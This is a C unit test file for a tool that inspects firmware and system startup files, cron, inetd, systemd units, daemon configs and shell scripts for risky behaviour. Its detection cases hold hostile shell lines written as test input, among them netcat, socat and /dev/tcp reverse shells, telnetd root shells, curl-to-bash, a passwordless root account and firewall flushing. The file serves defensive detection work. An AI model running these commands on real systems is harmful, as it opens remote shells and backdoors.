/* SPDX-License-Identifier: Apache-2.0 */
/* What starts, what listens, and what scripts do. */
#include "collect.h"

extern const as_inspector as_inspector_android_init, as_inspector_inittab, as_inspector_rc,
	as_inspector_runit, as_inspector_cron, as_inspector_inetd, as_inspector_xinetd,
	as_inspector_systemd, as_inspector_script, as_inspector_script_part,
	as_inspector_daemon_config, as_inspector_uci_config, as_inspector_feeds,
	as_inspector_firewall;

static void script_has(const char *body, const char *expected)
{
	char text[4096];
	snprintf(text, sizeof(text), "#!/bin/sh\n%s\n", body);
	collected all = collect(&as_inspector_script, as_lit(text), "text/script", "");
	if (!strstr((const char *)all.text.p, expected))
		fail_msg("no \"%s\" for:\n%s\nin:\n%s", expected, body, (const char *)all.text.p);
	collected_free(&all);
}

/* Only the row for the script itself. */
static void script_is_quiet(const char *body)
{
	char text[4096];
	snprintf(text, sizeof(text), "#!/bin/sh\n%s\n", body);
	collected all = collect(&as_inspector_script, as_lit(text), "text/script", "");
	if (all.rows != 1 || all.lost != 0)
		fail_msg("not quiet:\n%s\nsays:\n%s", body, (const char *)all.text.p);
	collected_free(&all);
}

static void commands_of_interest_are_named(void **state)
{
	(void)state;
	static const struct {
		const char *body, *pattern;
	} cases[] = {
		{ "nc -l -p 4444 -e /bin/sh &", "pattern=shell-listener program=nc" },
		{ "busybox nc -lp 99 -e /bin/ash", "pattern=shell-listener" },
		{ "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc -l 5555 >/tmp/f",
			"pattern=shell-listener" },
		{ "nc 10.0.0.1 99 -e sh", "pattern=shell-connect" },
		{ "bash -i >& /dev/tcp/10.0.0.1/99 0>&1", "pattern=shell-connect" },
		{ "exec 5<>/dev/tcp/10.0.0.1/99", "pattern=dev-tcp" },
		{ "socat TCP-LISTEN:99,fork EXEC:/bin/sh,pty", "pattern=shell-listener" },
		{ "socat TCP:10.0.0.1:99 EXEC:/bin/bash", "pattern=shell-connect" },
		{ "[ -x /x ] && telnetd -p 2323 -l/bin/sh", "pattern=telnetd-shell" },
		{ "if true; then exec /usr/sbin/telnetd; fi", "pattern=telnetd program=telnetd" },
		{ "D=/usr/sbin/telnetd\nstart-stop-daemon -S -x $D -- -l /bin/ash",
			"pattern=telnetd-shell" },
		{ "echo aWQK | base64 -d | sh", "pattern=eval-decoded" },
		{ "curl -s http://x.y/z | bash -s", "pattern=fetch-run" },
		{ "chmod 0777 /etc/passwd", "pattern=chmod-world" },
		{ "chmod -R a+w /usr", "pattern=chmod-world" },
		{ "chmod u+s /bin/sh", "pattern=chmod-setuid" },
		{ "cat x > /dev/mtdblock3", "pattern=flash-write" },
		{ "dd if=a of=/dev/mtd2 bs=64k", "pattern=flash-write" },
		{ "insmod /tmp/rootkit.ko", "pattern=module-from-tmp" },
		{ "echo 'x::0:0::/:/bin/sh' >> /etc/passwd", "pattern=account-add" },
		{ "su -c 'iptables -F; iptables -P INPUT ACCEPT'", "pattern=firewall-accept" },
		{ "echo root:toor | chpasswd", "pattern=password-argument" },
		{ "chpasswd <<E\nroot:toor\nE", "pattern=password-argument" },
		{ "sshpass -p secret scp a b", "pattern=password-argument" },
		{ "curl -u admin:secret http://x", "pattern=password-argument" },
		{ "eval $(echo \"$QUERY_STRING\" | tr '&' ';')", "pattern=query-eval" },
		{ "case $1 in\n start) gdbserver :1234 /bin/x ;;\nesac", "pattern=debug-server" },
		{ "X=$(nc -l -p 1 -e /bin/sh)", "pattern=shell-listener" },
		{ "echo \"`telnetd -l /bin/sh`\"", "pattern=telnetd-shell" },
		{ "telnetd \\\n -l \\\n /bin/sh", "pattern=telnetd-shell" },
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		script_has(cases[i].body, cases[i].pattern);
}

static void documentation_is_not_action(void **state)
{
	(void)state;
	static const char *const bodies[] = {
		"# telnetd -l /bin/sh",
		"echo telnetd -l /bin/sh",
		"echo 'nc -l -p 1 -e /bin/sh'; printf \"curl http://x | sh\\n\"",
		"cat <<EOF\ntelnetd -l /bin/sh\nnc -l -p 1 -e /bin/sh\nEOF",
		"cat <<-'EOF'\n\tchmod 777 /\n\tEOF\ntrue",
		"case $1 in\n telnetd|gdbserver) true;;\n (adbd) true;;\nesac",
		"telnetd() { true; }",
		"for x in telnetd adbd; do killall $x; done",
		"killall telnetd; pidof telnetd; which tcpdump",
		"[ \"$1\" = telnetd ] && true",
		"chmod 755 /bin/x; chmod 1777 /tmp; chmod go-w /x; chmod +x /x; chmod 644 a",
		"echo $pw | chpasswd; curl --version; sshpass -p \"$PW\" ssh x; mysql -p \"$X\"",
		"nc -z host 22; echo x | nc host 25; sh script.sh; sh -c 'true'",
		"iptables -F mychain; iptables -P INPUT DROP; dd if=/dev/mtd0 of=/tmp/x",
		"mtd --help",
		"USAGE=\"telnetd -l /bin/sh\"",
		"if [ -n \"$a\" ]; then echo \"it's on\"; fi # don't telnetd",
		"echo x > /dev/null 2>&1; cat /dev/mtd0 > /tmp/y",
		"sshd -t; wget --help",
	};
	for (size_t i = 0; i < sizeof(bodies) / sizeof(bodies[0]); i++)
		script_is_quiet(bodies[i]);
}

static void fetches_say_how_they_check(void **state)
{
	(void)state;
	script_has("wget --no-check-certificate https://u.v/fw.img",
		"verify=off flashes=0 purpose=firmware");
	script_has("wget https://u.v/a", "scheme=https verify=on flashes=0 purpose=other");
	script_has("U=http://u.v/fw.bin\ncurl -o /tmp/f $U\nmtd write /tmp/f linux",
		"url=http://u.v/fw.bin scheme=http verify=unknown flashes=1 purpose=firmware");
	script_has("curl -sSLk https://u.v/a", "verify=off");
	script_has("tftp -g -r f.bin 10.0.0.1", "tool=tftp url=tftp://10.0.0.1/f.bin scheme=tftp");
	script_has("opkg --no-check-certificate update", "tool=opkg verify=off");
	script_has("wget \"$BASE/x\"", "url=$BASE/x verify=unknown");
	script_is_quiet("curl file:///etc/x; opkg update; apt-get install x");
}

static collected run(const as_inspector *in, const char *text, const char *path)
{
	return collect(in, as_lit(text), "text", path);
}

static void inittab_lines_start_programs(void **state)
{
	(void)state;
	collected all = run(&as_inspector_inittab,
		"# c\n::sysinit:/etc/init.d/rcS\nttyS0::askfirst:-/bin/sh\n"
		"1:23:off:/sbin/getty 38400 tty1\n::respawn:telnetd -F -p 9999 -l /bin/sh\n",
		"/etc/inittab");
	expect_has(&all,
		"name=ttyS0 command=/bin/sh program=/bin/sh user=root trigger=askfirst enabled=1");
	expect_has(&all, "trigger=off enabled=0");
	expect_has(&all, "daemon=telnetd service=telnet protocol=tcp port=9999 source=arguments");
	expect_has(&all,
		"pattern=telnetd-shell program=telnetd text=telnetd -F -p 9999 -l /bin/sh line=5");
	expect_not(&all, "# c");
	collected_free(&all);
}

static void android_services_start_programs(void **state)
{
	(void)state;
	collected all = run(&as_inspector_android_init,
		"# c\nimport /init.${ro.hardware}.rc\non boot && property:a=b\n  exec u:r:su:s0 "
		"root -- "
		"/vendor/bin/setup --now\n  start netd\n"
		"service telnet /system/bin/telnetd -p 9999 -l /bin/sh\n    class core main\n"
		"    user shell\n    disabled\nservice zygote /system/bin/app_process64 -Xzygote\n",
		"/system/etc/init/hw/init.rc");
	expect_has(&all, "init=android name=setup command=/vendor/bin/setup --now "
			 "program=/vendor/bin/setup args=--now user=root trigger=boot && "
			 "property:a=b enabled=1");
	expect_has(&all, "init=android name=telnet command=/system/bin/telnetd -p 9999 -l /bin/sh "
			 "program=/system/bin/telnetd args=-p 9999 -l /bin/sh user=shell "
			 "trigger=class core main enabled=0");
	expect_has(&all, "daemon=telnetd service=telnet protocol=tcp port=9999 source=arguments");
	expect_has(&all, "name=zygote command=/system/bin/app_process64 -Xzygote");
	expect_has(&all, "user=root trigger=class default enabled=1");
	expect_not(&all, "name=netd");
	collected_free(&all);
}

static void start_scripts_show_their_daemons(void **state)
{
	(void)state;
	collected all = run(&as_inspector_rc,
		"#!/bin/sh /etc/rc.common\nSTART=50\nUSE_PROCD=1\nstart_service() {\n "
		"procd_open_instance\n"
		" procd_set_param command /usr/sbin/dropbear -F -p 10.0.0.1:2222\n "
		"procd_close_instance\n}\n",
		"/etc/init.d/dropbear");
	expect_has(&all, "init=procd name=dropbear command=/etc/init.d/dropbear start");
	expect_has(&all, "daemon=dropbear service=ssh protocol=tcp port=2222 address=10.0.0.1");
	collected_free(&all);
	all = run(&as_inspector_rc,
		"#!/bin/sh\n# Default-Start: 2 3\ncase $1 in start)\n"
		"start-stop-daemon --start --chuid nobody --exec /usr/sbin/in.tftpd -- -a :69\n;;"
		"stop) start-stop-daemon -K -x /usr/sbin/in.tftpd;; esac\n",
		"/etc/init.d/tftpd");
	expect_has(&all, "program=/usr/sbin/in.tftpd args=-a :69 user=nobody trigger=2 3");
	expect_has(&all, "service=tftp protocol=udp port=69");
	assert_int_equal(all.rows, 3);
	collected_free(&all);
	all = run(&as_inspector_runit, "#!/bin/sh\nexec 2>&1\nexec snmpd -f -c /etc/s.conf\n",
		"/etc/service/snmpd/run");
	expect_has(&all, "init=runit name=snmpd command=snmpd -f -c /etc/s.conf");
	collected_free(&all);
}

static void inetd_and_xinetd_serve(void **state)
{
	(void)state;
	collected all = run(&as_inspector_inetd,
		"#ftp stream tcp nowait root /usr/sbin/ftpd ftpd\n"
		"telnet stream tcp nowait root.root /usr/sbin/tcpd in.telnetd -h\n"
		"4321 stream tcp nowait root /bin/sh sh -i\n",
		"/etc/inetd.conf");
	expect_has(&all, "init=inetd name=telnet command=in.telnetd -h program=in.telnetd args=-h "
			 "user=root");
	expect_has(&all, "daemon=sh protocol=tcp port=4321 source=inetd");
	expect_not(&all, "ftpd");
	collected_free(&all);
	all = run(&as_inspector_xinetd,
		"service telnet\n{\n\tdisable = no\n\tuser = root\n\tserver = "
		"/usr/sbin/in.telnetd\n}\n"
		"service tftp\n{\n\tdisable = yes\n\tserver = /usr/sbin/in.tftpd\n\tprotocol = "
		"udp\n}\n",
		"/etc/xinetd.d/all");
	expect_has(&all, "service=telnet protocol=tcp port=23 source=xinetd cleartext=1 enabled=1");
	expect_has(&all, "service=tftp protocol=udp port=69 source=xinetd cleartext=1 enabled=0");
	collected_free(&all);
}

static void cron_runs_commands(void **state)
{
	(void)state;
	collected all = run(&as_inspector_cron,
		"SHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n"
		"@reboot nobody nc -l -p 99 -e /bin/sh\n",
		"/etc/crontab");
	expect_has(&all, "command=run-parts /etc/cron.hourly program=run-parts "
			 "args=/etc/cron.hourly user=root "
			 "trigger=17 * * * *");
	expect_has(&all, "user=nobody trigger=@reboot enabled=1");
	expect_has(&all, "pattern=shell-listener");
	collected_free(&all);
	all = run(&as_inspector_cron, "* * * * * /bin/x\n", "/etc/crontabs/root");
	expect_has(&all, "name=root command=/bin/x program=/bin/x user=root");
	collected_free(&all);
}

static void systemd_units_run_and_listen(void **state)
{
	(void)state;
	collected all = run(&as_inspector_systemd,
		"[Unit]\nDescription=x\n[Service]\nExecStart=-/usr/sbin/telnetd \\\n  -F -p "
		"24\nUser=bob\n"
		"[Install]\nWantedBy=multi-user.target\n",
		"/lib/systemd/system/telnet.service");
	expect_has(&all, "init=systemd name=telnet.service command=/usr/sbin/telnetd -F -p 24");
	expect_has(&all, "user=bob trigger=multi-user.target");
	expect_has(&all, "service=telnet protocol=tcp port=24");
	collected_free(&all);
	all = run(&as_inspector_systemd, "[Socket]\nListenStream=0.0.0.0:22\nListenStream=/run/x\n",
		"/lib/systemd/system/ssh.socket");
	expect_has(&all, "daemon=ssh service=ssh protocol=tcp port=22 address=0.0.0.0");
	assert_int_equal(all.rows, 1);
	collected_free(&all);
}

static const struct {
	const as_inspector *in;
	const char *path, *text, *expected;
} configurations[] = {
	{ &as_inspector_daemon_config, "/etc/ssh/sshd_config",
		"#Port 1\nPort 2222\nPermitRootLogin yes\n",
		"setting 18+19 daemon=sshd name=PermitRootLogin value=yes" },
	{ &as_inspector_daemon_config, "/etc/ssh/sshd_config", "#Port 1\nX y\n",
		"daemon=sshd service=ssh protocol=tcp port=22 source=default cleartext=0" },
	{ &as_inspector_daemon_config, "/etc/ssh/sshd_config",
		"Match User x\nPermitRootLogin yes\n",
		"section=Match User x name=PermitRootLogin" },
	{ &as_inspector_daemon_config, "/etc/snmp/snmpd.conf",
		"agentAddress udp:127.0.0.1:161,udp6:[::1]:161\n",
		"protocol=udp port=161 address=127.0.0.1" },
	{ &as_inspector_daemon_config, "/etc/lighttpd/lighttpd.conf",
		"server.modules = (\"a\",\n \"b\")\nserver.port = 8080 # x\n",
		"service=http protocol=tcp port=8080" },
	{ &as_inspector_daemon_config, "/etc/nginx/nginx.conf",
		"http {\n server {\n  listen 443 ssl;\n }\n}\n",
		"service=https protocol=tcp port=443 source=config cleartext=0" },
	{ &as_inspector_daemon_config, "/etc/vsftpd.conf", "anonymous_enable=YES\n",
		"daemon=vsftpd name=anonymous_enable value=YES" },
	{ &as_inspector_daemon_config, "/etc/samba/smb.conf", "[share]\n guest ok = yes\n",
		"section=share name=guest ok value=yes" },
	{ &as_inspector_uci_config, "/etc/config/dropbear",
		"config dropbear\n\toption Port '2022' # x\n",
		"daemon=dropbear service=ssh protocol=tcp port=2022" },
	{ &as_inspector_uci_config, "/etc/config/uhttpd",
		"config uhttpd 'main'\n\tlist listen_http '0.0.0.0:80'\n",
		"section=main name=listen_http" },
	{ &as_inspector_uci_config, "/etc/config/firewall",
		"config rule\n option src wan\n option dest_port 22\n option target "
		"ACCEPT\n",
		"tool=uci chain=rule action=ACCEPT port=22 source=wan" },
	{ &as_inspector_feeds, "/etc/opkg/distfeeds.conf", "src/gz a http://u.v/p\n",
		"tool=opkg url=http://u.v/p scheme=http verify=unknown flashes=0 "
		"purpose=package-feed" },
	{ &as_inspector_feeds, "/etc/apt/sources.list", "deb [trusted=yes] http://u.v/d x main\n",
		"tool=apt url=http://u.v/d scheme=http verify=off" },
	{ &as_inspector_feeds, "/root/.curlrc", "insecure\n", "tool=curl verify=off" },
	{ &as_inspector_firewall, "/etc/iptables/rules.v4", "*filter\n:INPUT ACCEPT [0:0]\n",
		"tool=iptables chain=INPUT action=ACCEPT text=:INPUT ACCEPT [0:0]" },
	{ &as_inspector_firewall, "/etc/iptables/rules.v4",
		"-A INPUT -p tcp --dport 23 -j ACCEPT\n",
		"chain=INPUT action=ACCEPT protocol=tcp port=23" },
	{ &as_inspector_firewall, "/etc/nftables.conf",
		"chain i {\n type filter hook input priority 0; policy drop;\n",
		"tool=nft chain=input action=drop" },
};

static void daemons_are_configured(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(configurations) / sizeof(configurations[0]); i++) {
		collected all =
			run(configurations[i].in, configurations[i].text, configurations[i].path);
		expect_has(&all, configurations[i].expected);
		collected_free(&all);
	}
	collected all =
		run(&as_inspector_daemon_config, "port=0\nenable-tftp\n", "/etc/dnsmasq.conf");
	expect_not(&all, "listener");
	collected_free(&all);
	all = run(&as_inspector_daemon_config, "d /run/vsftpd 0755\n",
		"/usr/lib/tmpfiles.d/vsftpd.conf");
	assert_int_equal(all.rows, 0);
	collected_free(&all);
}

/* Every prefix of awkward text must end, within the arena. */
static void damaged_text_ends(void **state)
{
	(void)state;
	const char *text =
		"#!/bin/sh\na=\"$(b `c 'd` \"e)\" f <<X | $(( 1 )) ${g:-$(h \\\n) i\nX\ncase j in "
		"k) "
		"l;; esac & sh -c \"sh -c 'eval $(eval m)'\" > /dev/tcp/n (o) ) ${ $( ` ' \"";
	as_span all = as_lit(text);
	for (size_t n = 0; n <= all.n; n++) {
		collected c = collect(&as_inspector_script, as_cut(all, 0, n), "text/script", "");
		collected_free(&c);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(commands_of_interest_are_named),
		cmocka_unit_test(documentation_is_not_action),
		cmocka_unit_test(fetches_say_how_they_check),
		cmocka_unit_test(inittab_lines_start_programs),
		cmocka_unit_test(android_services_start_programs),
		cmocka_unit_test(start_scripts_show_their_daemons),
		cmocka_unit_test(inetd_and_xinetd_serve),
		cmocka_unit_test(cron_runs_commands),
		cmocka_unit_test(systemd_units_run_and_listen),
		cmocka_unit_test(daemons_are_configured),
		cmocka_unit_test(damaged_text_ends),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
